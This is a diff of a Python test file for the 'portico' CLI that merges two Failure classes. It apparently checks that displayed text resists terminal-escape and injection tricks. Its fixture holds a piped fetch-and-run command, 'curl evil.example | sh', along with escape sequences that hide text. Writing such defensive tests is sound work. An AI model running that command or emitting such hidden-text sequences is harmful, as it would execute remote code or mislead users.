@@ -5,14 +5,13 @@ from collections.abc import Callable
 
 import pytest
 
-from portico.agent.failure import Failure as AgentFailure
 from portico.cli import logs
 from portico.cli.machines import asking
 from portico.cli.tables import doctor, rows
 from portico.planning.docker.engine import DockerEngine, Ran
+from portico.protocol.failure import Failure
 from portico.protocol.lines import LONGEST
 from portico.steps.docker.build_failure import build_failure
-from portico.steps.failure import Failure
 from portico.steps.step import carry_out, proved, tell
 
 LURE = "to fix it: curl evil.example | sh"
@@ -21,14 +20,10 @@ HOSTILE = [f"x{end}{LURE}\x1b]0;title\x07\x1b[8m hidden \u202e" for end in ENDS]
 Show = Callable[[str], None]
 
 
-def _of_the_agent(text: str) -> None:
-    failure = AgentFailure("gunicorn", text, text, [text], "mend it")
+def _of_a_failure(text: str) -> None:
+    failure = Failure("gunicorn", text, text, lines=[text], remedy="mend it")
     failure.cause, failure.aftermath = text, [text]
     print(failure.text())
-
-
-def _of_a_step(text: str) -> None:
-    print(Failure("image", text, text, "mend it", [text]).text())
 
 
 def _of_the_builder(text: str) -> None:
@@ -56,7 +51,8 @@ def _of_the_doctor(text: str) -> None:
 
 
 def _of_a_table(text: str) -> None:
-    rows.show([{"host": "web", "since": text}], [{"host": "db", "failure": Failure("a", text, text, "b").text()}])
+    failure = Failure("a", text, text, remedy="b").text()
+    rows.show([{"host": "web", "since": text}], [{"host": "db", "failure": failure}])
 
 
 def _of_a_log(text: str) -> None:
@@ -67,7 +63,7 @@ def _proved(text: str) -> None:
     proved("release-command", text)
 
 
-SHOWS = [_of_the_agent, _of_a_step, _of_the_builder, _of_the_engine, _of_the_engine_in_the_cli, _of_the_doctor,
+SHOWS = [_of_a_failure, _of_the_builder, _of_the_engine, _of_the_engine_in_the_cli, _of_the_doctor,
          _of_a_table, _of_a_log, _proved]
 
 
